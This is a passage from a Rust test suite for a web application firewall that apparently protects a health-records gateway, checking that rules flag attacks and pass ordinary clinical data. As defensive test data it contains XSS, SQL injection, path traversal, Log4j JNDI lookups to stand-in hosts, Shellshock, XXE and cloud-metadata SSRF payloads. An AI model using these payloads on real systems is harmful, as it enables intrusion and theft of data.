            let mut noted = HeaderMap::new();
            noted.insert(
                "x-note",
                http::HeaderValue::from_str(&text).expect("header value"),
            );
            let in_header = Target {
                query: None,
                headers: &noted,
                ..target
            };
            let first_class = |route: &RouteInspection| {
                inspect_on(&in_header, route)
                    .first()
                    .map(|f| (f.hit.rule, f.hit.class.name()))
            };
            assert_eq!(
                first_class(&RouteInspection::default()).map(|h| h.1),
                Some(class)
            );
            assert!(
                first_class(&route)
                    .is_some_and(|(rule, class)| rule != excluded && class != excluded),
                "{excluded} excluded, header {text}"
            );
            assert_eq!(
                first_class(&RouteInspection::default()).map(|h| h.1),
                Some(class)
            );
        }
        // Passing over ends with the inspection.
        assert!(!detect::is_passing_over());

        // An exclusion limited to one field: that field's value is read on past it, and the
        // rule still holds in every other field.
        let route = RouteInspection {
            exclude: vec![
                Exclusion::parse("xss@query:q").expect("exclusion"),
                Exclusion::parse("xss@body:q").expect("exclusion"),
            ],
            ..RouteInspection::default()
        };
        let value = "%3Cscript%3Ealert(1)%3C/script%3E;cat+/etc/passwd";
        for (query, field, excused) in [
            (format!("q={value}"), "q", true),
            (format!("q=%3Cb%3Ehi%3C/b%3E&r={value}"), "r", false),
        ] {
            let target = get_x(&query, &headers);
            let found = inspect_on(&target, &route);
            let classes: Vec<_> = found
                .iter()
                .filter(|f| f.field == field)
                .map(|f| f.hit.class.name())
                .collect();
            assert!(!classes.is_empty(), "{query}: {found:?}");
            assert_eq!(classes.contains(&"xss"), !excused, "{query}: {found:?}");
        }
        let text = "<script>alert(1)</script>;cat /etc/passwd";
        for (body, field, excused) in [
            (serde_json::json!({ "q": text }), "q", true),
            (
                serde_json::json!({ "q": "<b>hi</b>", "r": text }),
                "r",
                false,
            ),
        ] {
            let body = body.to_string();
            let checked = check_body(body.as_bytes(), &json, &route);
            assert!(checked.refusal.is_some(), "{body}: {:?}", checked.findings);
            let classes: Vec<_> = checked
                .findings
                .iter()
                .filter(|f| f.field == field)
                .map(|f| f.hit.class.name())
                .collect();
            assert!(!classes.is_empty(), "{body}: {:?}", checked.findings);
            assert_eq!(classes.contains(&"xss"), !excused, "{body}");
        }
    }

    /// On a `neutralise` route, findings in the named fields are many by design (every note a
    /// patient wrote with markup); they must not fill the findings and end inspection before
    /// an attack outside the named fields is found. JSON and XML alike.
    #[test]
    fn findings_in_neutralised_fields_do_not_hide_an_attack_elsewhere() {
        let route = RouteInspection {
            mode: Mode::Neutralise,
            neutralise: vec!["note.text".into()],
            ..RouteInspection::default()
        };
        let payloads = [
            "<script>alert(1)</script>",
            "' or 1=1 --",
            "../../../../etc/passwd",
            "${jndi:ldap://x.example/a}",
            "{{7*7}}",
            "<?php system('id'); ?>",
            "; cat /etc/shadow",
            "<img src=x onerror=alert(1)>",
            "union select password from users",
            "javascript:alert(document.cookie)",
            "() { :; }; /bin/bash -c id",
            "<!--#exec cmd=\"id\"-->",
        ];
        let notes: Vec<String> = payloads
            .iter()
            .map(|p| serde_json::json!({ "text": p }).to_string())
            .collect();
        let attack = "1' union select password from users--";
        let json = format!(
            r#"{{"note":[{}],"code":{{"text":"{attack}"}}}}"#,
            notes.join(",")
        );
        let mut headers = HeaderMap::new();
        headers.insert(
            http::header::CONTENT_TYPE,
            http::HeaderValue::from_static("application/fhir+json"),
        );
        let checked = check_body(json.as_bytes(), &headers, &route);
        assert!(
            checked.findings.len() > MAX_FINDINGS,
            "the notes fill the findings: {:?}",
            checked.findings
        );
        let refusal = checked.refusal.expect("the attack in code.text is refused");
        assert!(refusal.detail.contains("body"), "{refusal:?}");
        let xml_notes: String = payloads
            .iter()
            .map(|p| {
                format!(
                    r#"<note><text value="{}"/></note>"#,
                    quick_xml::escape::escape(*p)
                )
            })
            .collect();
        let xml = format!(
            r#"<Observation>{xml_notes}<code><text value="{}"/></code></Observation>"#,
            quick_xml::escape::escape(attack)
        );
        headers.insert(
            http::header::CONTENT_TYPE,
            http::HeaderValue::from_static("application/fhir+xml"),
        );
        let checked = check_body(xml.as_bytes(), &headers, &route);
        assert!(checked.refusal.is_some(), "xml: {:?}", checked.findings);
    }

    /// A text, JSON or XML file inside a body is inspected as its type says, and what is found
    /// is named by the field that carries the file, where exclusions look for it.
    #[test]
    fn findings_in_a_file_are_named_by_the_field_that_carries_it() {
        use base64::Engine as _;
        let xml = br#"<r><a probe="' or 1=1 --"/></r>"#;
        let body = format!(
            r#"{{"resourceType":"DocumentReference","content":[{{"attachment":{{"contentType":"application/xml","data":"{}"}}}}]}}"#,
            base64::engine::general_purpose::STANDARD.encode(xml)
        );
        let mut headers = HeaderMap::new();
        headers.insert(
            http::header::CONTENT_TYPE,
            http::HeaderValue::from_static("application/fhir+json"),
        );
        let checked = check_body(body.as_bytes(), &headers, &RouteInspection::default());
        assert!(checked.refusal.is_some());
        let fields: Vec<_> = checked.findings.iter().map(|f| f.field.as_str()).collect();
        assert_eq!(fields, ["content.attachment.data"]);
        let multipart = [
            b"--b\r\nContent-Disposition: form-data; name=\"report\"; filename=\"r.xml\"\r\nContent-Type: application/xml\r\n\r\n".as_slice(),
            xml,
            b"\r\n--b--\r\n",
        ]
        .concat();
        headers.insert(
            http::header::CONTENT_TYPE,
            http::HeaderValue::from_static("multipart/form-data; boundary=b"),
        );
        let checked = check_body(&multipart, &headers, &RouteInspection::default());
        assert!(checked.refusal.is_some());
        let fields: Vec<_> = checked.findings.iter().map(|f| f.field.as_str()).collect();
        assert_eq!(fields, ["report"]);
    }

    fn findings(
        path: &str,
        query: Option<&str>,
        headers: &[(&str, &str)],
        body: Option<&str>,
    ) -> Vec<&'static str> {
        let map = header_map(headers);
        inspect(&Target {
            method: &http::Method::GET,
            path,
            query,
            headers: &map,
            authority: None,
            body: body.map(str::as_bytes),
        })
        .iter()
        .map(|f| f.hit.rule)
        .collect()
    }

    /// `Content-Type` given twice: the gateway and a backend could read the body as two
    /// types (`protocol-240`); once, whatever the type, nothing.
    #[test]
    fn a_content_type_given_twice_is_refused() {
        let json = r#"{"a": 1}"#;
        for types in [
            ["text/plain", "application/json"],
            ["application/json", "application/json"],
        ] {
            let headers = [("content-type", types[0]), ("content-type", types[1])];
            assert_eq!(
                findings("/x", None, &headers, Some(json)),
                ["protocol-240"],
                "{types:?}"
            );
        }
        for one in ["text/plain", "application/json"] {
            assert!(findings("/x", None, &[("content-type", one)], Some(json)).is_empty());
        }
    }

    /// A session id in the query is a fixation unless the link was followed within the site
    /// (CRS 943110 and 943120's tests, both directions); in a form body, or as a cookie's
    /// name, the Referer changes nothing.
    #[test]
    fn a_session_id_in_the_query_is_refused_unless_the_referer_is_the_site_itself() {
        let query = Some("jsessionid=74B0CB414BD77D17B5680A6386EF1666");
        let with = |host: &str, referer: Option<&str>| {
            let mut headers = vec![("host", host)];
            headers.extend(referer.map(|r| ("referer", r)));
            findings("/login", query, &headers, None)
        };
        // Planted: from another site, a subdomain of it, a lookalike, or from nowhere.
        for (host, referer) in [
            ("localhost", Some("http://www.attackersite.com/test")),
            ("localhost", Some("https://localhost.attackersite.com/")),
            ("app.example.com", Some("https://attacker.example.com/")),
            ("myapp.com", Some("https://evilmyapp.com/")),
            ("myapp.com", Some("myapp.com/previous-page")),
            ("myapp.com", Some("ftp://myapp.com/")),
            ("myapp.com", None),
        ] {
            assert_eq!(with(host, referer), ["session-110"], "{host} {referer:?}");
        }
        // Followed within the site: its own host, with or without ports, in any case.
        for (host, referer) in [
            ("localhost", "http://localhost/test"),
            ("myapp.com", "https://myapp.com/previous-page"),
            ("api.example.com:8443", "https://API.example.com/oauth"),
            ("example.com", "http://example.com:8080/another-page"),
        ] {
            assert!(with(host, Some(referer)).is_empty(), "{host} {referer}");
        }
        // A form field is no link: the Referer does not excuse it there.
        let form = header_map(&[
            ("host", "myapp.com"),
            ("referer", "https://myapp.com/"),
            ("content-type", "application/x-www-form-urlencoded"),
        ]);
        let found = check_body(b"sessionid=abc123", &form, &RouteInspection::default());
        assert_eq!(
            found
                .findings
                .iter()
                .map(|f| f.hit.rule)
                .collect::<Vec<_>>(),
            ["session-110"]
        );
    }

    /// `headers` as a map (a name or value the map refuses becomes `Warning: -`).
    fn header_map(headers: &[(&str, &str)]) -> HeaderMap {
        let mut map = HeaderMap::new();
        for (n, v) in headers {
            map.append(
                http::HeaderName::from_bytes(n.as_bytes()).unwrap_or(http::header::WARNING),
                http::HeaderValue::from_str(v).unwrap_or(http::HeaderValue::from_static("-")),
            );
        }
        map
    }

    /// Plain values skip normalisation and every detector but `plain_value`: only an
    /// identifier's bytes, a single `_` at a time (`__proto__` is a key to look at), short.
    #[test]
    fn plain_values_are_identifiers_dates_and_numbers_only() {
        for value in ["p-001", "2026-04-10", "self_management", "a_b_c", "", "_x_"] {
            assert!(plain(value.as_bytes()), "{value:?}");
        }
        let long = "a".repeat(129);
        for value in [
            "__proto__",
            "a__b",
            "a___",
            "blood pressure",
            "1.5",
            "a;b",
            "検査",
            long.as_str(),
        ] {
            assert!(!plain(value.as_bytes()), "{value:?}");
        }
        assert!(plain("a".repeat(128).as_bytes()));
    }

    /// `inspect eval`'s warm pass judges every value anew: forgetting empties every table.
    #[test]
    fn forgetting_seen_values_empties_every_verdict_table() {
        let json = [
            ("content-type", "application/json"),
            ("user-agent", "app/1 (x)"),
        ];
        findings("/x", None, &json, Some(r#"{"note": "朝食後 (ok)"}"#));
        let _ = header_hit(&http::header::REFERER, b"https://a.test/p?q=1");
        let _ = header_hit(&http::header::ACCEPT, b"text/html, */*");
        let tables = [&SEEN_FETCHED, &SEEN_PAGES, &SEEN_AGENTS, &SEEN_JSON_VALUES];
        for table in tables {
            assert!(table.with_borrow(|t| !t.seen.is_empty()));
        }
        assert!(SEEN_JSON_KEYS.with_borrow(|t| !t.seen.is_empty()));
        forget_seen_values();
        for table in tables {
            assert!(table.with_borrow(|t| t.seen.is_empty()));
        }
        assert!(SEEN_JSON_KEYS.with_borrow(|t| t.seen.is_empty()));
    }

    /// Where the names of CRS's ARGS_NAMES are: a JSON key is a value too, a plain value may
    /// be base64 hiding a gadget, an upload's name may be a script (R-WAF-1).
    #[test]
    fn keys_plain_values_and_upload_names_are_inspected() {
        let json = [("content-type", "application/json")];
        let body = |b: &str| findings("/x", None, &json, Some(b));
        assert_eq!(body(r#"{"java.io.File": "test"}"#), ["java-100"]);
        assert_eq!(
            body(r#"{"ProcessBuilder.evil.invokertransformer": "x"}"#),
            ["java-100"]
        );
        assert_eq!(body(r#"{"test": "cnVudGltZQ"}"#), ["java-130"]);
        assert_eq!(body(r#"{"rO0ABQ": "test"}"#), ["java-130"]);
        assert_eq!(findings("/x", Some("test=KztAAU"), &[], None), ["java-130"]);
        assert_eq!(
            findings("/x", None, &[("x-filename", "a.php..")], None),
            ["php-150"]
        );
        assert_eq!(
            findings("/x", None, &[("x_filename", "shell. jsp")], None),
            ["java-140"]
        );
        // The same places, ordinary: FHIR keys, ids, a file's name.
        assert!(body(
            r#"{"resourceType": "Observation", "id": "f001", "valueQuantity": {"value": 5.6}}"#
        )
        .is_empty());
        assert!(findings("/x", Some("id=8f14e45fceea167a5a36dedd4bea2543"), &[], None).is_empty());
        assert!(findings("/x", None, &[("x-filename", "checkup-2026.pdf")], None).is_empty());
    }

    /// Escapes no encoder writes are refused where a form decoder reads them (a query, an
    /// urlencoded body), and left alone in JSON, where `%` is text (R-WAF-1, CRS 920220,
    /// 920240, 920260, 920540, 920271).
    #[test]
    fn query_names_and_other_sites_are_judged_in_the_query_only() {
        let host = [("host", "phr.example.jp")];
        let form = [
            ("host", "phr.example.jp"),
            ("content-type", "application/x-www-form-urlencoded"),
        ];
        assert_eq!(
            findings("/x", Some("foo[1]a[2]=bar"), &host, None),
            ["protocol-210"]
        );
        assert!(findings("/x", Some("filter[status]=active&ids[]=1"), &host, None).is_empty());
        assert_eq!(
            findings("/x", Some("next=https://evil.example/"), &host, None),
            ["rfi-160"]
        );
        assert_eq!(
            findings("/x", Some("next=https%3A%2F%2Fevil.example"), &host, None),
            ["rfi-160"]
        );
        assert!(findings("/x", Some("next=https://phr.example.jp/"), &host, None).is_empty());
        // An identifier that is a URL, by its parameter's name, is no other site's address;
        // the same value under another name still is.
        for identifier in [
            "system=http://loinc.org",
            "iss=https://idp.example",
            "aud=https://ehr.example",
        ] {
            assert!(
                findings("/x", Some(identifier), &host, None).is_empty(),
                "{identifier}"
            );
        }
        assert_eq!(
            findings("/x", Some("url=https://idp.example"), &host, None),
            ["rfi-160"]
        );
        assert!(findings(
            "/fhir/Observation",
            Some("code=http://loinc.org|8867-4"),
            &host,
            None
        )
        .is_empty());
        assert!(findings("/x", None, &form, Some("site=https://evil.example/")).is_empty());
        // A plain value is read as the backend does, whatever its case.
        assert_eq!(
            findings("/x", None, &form, Some("_method=DELETE")),
            ["protocol-100"]
        );
        assert_eq!(
            findings("/x", Some("_method=Delete"), &host, None),
            ["protocol-100"]
        );
    }

    #[test]
    fn escapes_no_encoder_writes_are_refused_in_forms_only() {
        let form = [("content-type", "application/x-www-form-urlencoded")];
        let json = [("content-type", "application/fhir+json")];
        assert_eq!(
            findings("/x", Some("param=%1G"), &[], None),
            ["encoding-130"]
        );
        assert_eq!(
            findings("/x", None, &form, Some("x=new %w20$")),
            ["encoding-130"]
        );
        assert_eq!(
            findings("/x", Some("q=foo%uFF01"), &[], None),
            ["encoding-140"]
        );
        assert_eq!(
            findings("/x", None, &form, Some("testarg=%5Cu0061lert")),
            ["encoding-150"]
        );
        assert_eq!(
            findings("/x", Some("test=test1%03"), &[], None),
            ["encoding-120"]
        );
        // A lone CR, and a line that starts a parameter (`crlf-130`, in a query only).
        assert_eq!(
            findings("/x", Some("a=test%0Dnext=more"), &[], None),
            ["crlf-120", "crlf-130"]
        );
        assert_eq!(
            findings("/x", Some("a=test%0A%0Dnext=more"), &[], None),
            ["crlf-120", "crlf-130"]
        );
        assert_eq!(
            findings("/x", Some("a=test%0Anext=more"), &[], None),
            ["crlf-130"]
        );
        assert!(findings("/x", None, &form, Some("note=test%0Anext=more")).is_empty());
        // An HL7 v2 message ends its segments with a lone CR: its format, read by field,
        // where an injection is still found.
        let hl7 = "msg=MSH%7C%5E~%5C%26%7CLAB%7CHOSP%7CPHR%7CAPP%7C20261127%7C%7CORU%5ER01%7CM1\
                   %7CP%7C2.5.1%0DPID%7C1%7C%7C12345%5E%5E%5EHOSP%5EMR%7C%7CYAMADA%5ETARO%0D\
                   OBX%7C1%7CNM%7C2093-3%5ECholesterol%5ELN%7C%7C210%7Cmg%2FdL%7C%3C200%7CH";
        assert!(findings("/x", None, &form, Some(hl7)).is_empty());
        assert!(findings("/x", Some(hl7), &[], None).is_empty());
        let attack = format!("{hl7}%0DNTE%7C1%7C%7C%24(id)");
        assert_eq!(findings("/x", None, &form, Some(&attack)), ["rce-100"]);
        // Without its `MSH` header, the same lone CRs are what they were.
        let headless = hl7.replacen("MSH", "MSX", 1);
        assert!(findings("/x", None, &form, Some(&headless)).contains(&"crlf-120"));
        assert!(findings("/x", Some("note=line%0Atwo"), &[], None).is_empty());
        // A letter encoded twice (`%2573` is `s`); a space or a slash encoded twice is a URL
        // inside a URL.
        assert_eq!(
            findings("/x", Some("parm=%25%37%33ome"), &[], None),
            ["encoding-160"]
        );
        assert!(findings("/x", Some("next=%2Fa%253Fq%253Db%2520c"), &[], None).is_empty());
        assert!(findings("/x", None, &form, Some("note=line%0D%0Atwo")).is_empty());
        assert_eq!(
            findings("/x", None, &[("cookie", "hi%13=bye")], None),
            ["encoding-120"]
        );
        assert_eq!(
            findings("/x", None, &json, Some(r#"{"note": "bell\u0007"}"#)),
            ["encoding-120"]
        );
        // Ordinary: a percent sign, a Japanese escape and a line break in JSON text, encoded
        // percent signs and Japanese in a query.
        assert!(findings(
            "/x",
            None,
            &json,
            Some(r#"{"note": "HbA1c 6.5% \u8840\u7cd6\nline two"}"#)
        )
        .is_empty());
        assert!(findings("/x", Some("note=6.5%25&name=%E5%B1%B1%E7%94%B0"), &[], None).is_empty());
    }

    /// A part's name or file name that splits its own `Content-Disposition` (CRS 920120).
    #[test]
    fn multipart_names_that_split_their_header_are_refused() {
        let part = multipart_part_rules;
        assert_eq!(part(r#"name="f"; filename="te;st.txt""#), ["multipart-120"]);
        assert_eq!(part(r#"name="f"; filename="file=.txt""#), ["multipart-120"]);
        assert_eq!(part(r#"name="fi=le"; filename="test""#), ["multipart-120"]);
        assert!(part(r#"name="f"; filename="Taro's checkup 2026.pdf.txt""#).is_empty());
        assert!(part(r#"name="note""#).is_empty());
    }

    #[test]
    fn every_place_is_inspected() {
        let json = [("content-type", "application/fhir+json")];
        // A path of letters and slashes only is still held to the path rules.
        assert_eq!(
            findings("/get/proc/interrupts", None, &[], None),
            ["lfi-130"]
        );
        // An editor's backup copy (CRS 920500); FHIR ids hold no `~`.
        assert_eq!(findings("/index.php~", None, &[], None), ["lfi-140"]);
        assert_eq!(
            findings("/index.php~/foo/bar/", None, &[], None),
            ["lfi-140"]
        );
        assert!(findings("/fhir/Patient/p-1~", None, &[], None).len() == 1);
        assert!(findings("/fhir/Patient/example~x", None, &[], None).is_empty());
        assert_eq!(
            findings("/x/..%2f..%2fetc%2fpasswd", None, &[], None),
            ["lfi-100"]
        );
        assert_eq!(
            findings("/x", Some("q=1%27%20or%20%271%27%3D%271"), &[], None),
            ["sqli-110"]
        );
        assert_eq!(
            findings("/x", Some("__proto__[admin]=1"), &[], None),
            ["proto-110", "proto-100"]
        );
        assert_eq!(
            findings(
                "/x",
                None,
                &[("cookie", "s=<script>alert(1)</script>")],
                None
            ),
            ["xss-110"]
        );
        assert_eq!(
            findings("/x", None, &[("user-agent", "${jndi:ldap://e/a}")], None),
            ["jndi-100"]
        );
        // Headers no other rule reads still carry a Log4j lookup to a backend's log; their
        // ordinary values pass.
        for header in [
            "accept-language",
            "authorization",
            "if-none-match",
            "accept",
        ] {
            assert_eq!(
                findings("/x", None, &[(header, "${${lower:j}ndi:ldap://e/a}")], None),
                ["jndi-100"],
                "{header}"
            );
        }
        assert!(findings(
            "/x",
            None,
            &[
                ("accept-language", "ja-JP,ja;q=0.9,en-US;q=0.8"),
                ("accept", "application/fhir+json;q=1.0, */*;q=0.5"),
                ("if-none-match", "W/\"$3\""),
            ],
            None
        )
        .is_empty());
        // A plain `User-Agent` is read whole (a plain query value is not: `code=visudo` is
        // a parameter's word, and skipped as plain).
        assert_eq!(
            findings("/x", None, &[("user-agent", "visudo")], None),
            ["rce-105"]
        );
        assert!(findings("/x", None, &[("user-agent", "okhttp")], None).is_empty());
        assert_eq!(
            findings(
                "/x",
                None,
                &json,
                Some(r#"{"note": "'; DROP TABLE users; --"}"#)
            ),
            // A second statement after `;` (sqli-130's).
            ["sqli-130"]
        );
        assert_eq!(
            findings("/x", None, &json, Some(r#"{"$where": "1"}"#)),
            ["nosql-110"]
        );
        assert_eq!(
            findings(
                "/x",
                None,
                &[("content-type", "application/xml")],
                Some("<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>")
            ),
            ["xxe-100"]
        );
    }

    /// The rules that fire on a one-part multipart body with this `Content-Disposition`
    /// (after `form-data; `) and a short text file.
    fn multipart_part_rules(disposition: &str) -> Vec<&'static str> {
        let mut headers = HeaderMap::new();
        headers.insert(
            http::header::CONTENT_TYPE,
            http::HeaderValue::from_static("multipart/form-data; boundary=b"),
        );
        let body = format!(
            "--b\r\nContent-Disposition: form-data; {disposition}\r\nContent-Type: text/plain\r\n\r\nhello\r\n--b--\r\n"
        );
        check_body(body.as_bytes(), &headers, &RouteInspection::default())
            .findings
            .iter()
            .map(|f| f.hit.rule)
            .collect()
    }

    /// An upload's name is held to the file-name rules in a multipart part as in an
    /// `X-Filename` header (R-WAF-2): a script refused, a report passed.
    #[test]
    fn multipart_file_names_a_server_would_run_are_found() {
        let rules =
            |filename: &str| multipart_part_rules(&format!("name=\"f\"; filename=\"{filename}\""));
        assert_eq!(rules("shell.php5"), ["php-150"]);
        assert_eq!(rules("index.jspx.."), ["java-140"]);
        assert!(rules("checkup-notes.txt").is_empty());
    }

    #[test]
    fn multipart_parts_read_otherwise_than_inspected_are_found() {
        let route = RouteInspection::default();
        let check = |part_head: &str, content: &str| {
            let body = format!(
                "--b\r\nContent-Disposition: form-data; name=\"q\"\r\n{part_head}\r\n{content}\r\n--b--\r\n"
            );
            let mut headers = HeaderMap::new();
            headers.insert(
                http::header::CONTENT_TYPE,
                http::HeaderValue::from_static("multipart/form-data; boundary=b"),
            );
            let checked = check_body(body.as_bytes(), &headers, &route);
            checked
                .findings
                .iter()
                .map(|f| f.hit.rule)
                .collect::<Vec<_>>()
        };
        assert_eq!(
            check(
                "Content-Type: text/plain; charset=utf-7\r\n",
                "+ADw-script+AD4-"
            ),
            // The charset, and the UTF-7 spelling of `<` itself.
            ["multipart-100", "xss-132"]
        );
        assert_eq!(
            check("Content-Transfer-Encoding: base64\r\n", "PHNjcmlwdD4="),
            ["multipart-110"]
        );
        assert!(check("Content-Type: text/plain; charset=UTF-8\r\n", "血圧 118/76").is_empty());
        assert!(check("Content-Type: text/plain; charset=windows-1252\r\n", "ok").is_empty());
    }

    #[test]
    fn a_session_id_is_fixation_in_the_query_not_in_a_cookie() {
        assert_eq!(
            findings("/login", Some("jsessionid=74B0CB41"), &[], None),
            ["session-110"]
        );
        assert!(findings(
            "/x",
            None,
            &[("cookie", "PHPSESSID=secret; theme=dark")],
            None
        )
        .is_empty());
    }

    #[test]
    fn a_page_address_is_not_a_fetched_url() {
        let from_intranet = [
            ("referer", "http://10.0.0.5/portal?id=1"),
            ("origin", "http://localhost:3000"),
        ];
        assert!(findings("/x", None, &from_intranet, None).is_empty());
        let fetched = [("x-callback-url", "http://169.254.169.254/latest/meta-data/")];
        assert_eq!(findings("/x", None, &fetched, None), ["ssrf-100"]);
        // Other attacks in a Referer are still found.
        let xss = [("referer", "http://e.example/?q=<script>alert(1)</script>")];
        assert_eq!(findings("/x", None, &xss, None), ["xss-110"]);
    }

    #[test]
    fn fhir_narratives_are_held_to_narrative_rules() {
        let json = [("content-type", "application/fhir+json")];
        let ok = r#"{"resourceType":"Observation","text":{"status":"generated","div":"<div xmlns=\"http://www.w3.org/1999/xhtml\"><p><b>血圧</b> 118/76 mmHg</p><table><tr><td>HbA1c</td></tr></table></div>"}}"#;
        assert!(findings("/fhir/Observation", None, &json, Some(ok)).is_empty());
        for bad in [
            r#"{"text":{"div":"<div><script>alert(1)</script></div>"}}"#,
            r#"{"text":{"div":"<div><img src=x onerror=alert(1)></div>"}}"#,
            r#"{"text":{"div":"<div><a href=\"javascript:alert(1)\">x</a></div>"}}"#,
        ] {
            assert_eq!(
                findings("/fhir/Observation", None, &json, Some(bad)),
                ["xss-120"],
                "{bad}"
            );
        }
        // The same markup anywhere else is not a narrative.
        let elsewhere = r#"{"note":"<div><p>hello</p><script>alert(1)</script></div>"}"#;
        assert_eq!(findings("/x", None, &json, Some(elsewhere)), ["xss-110"]);
    }
}
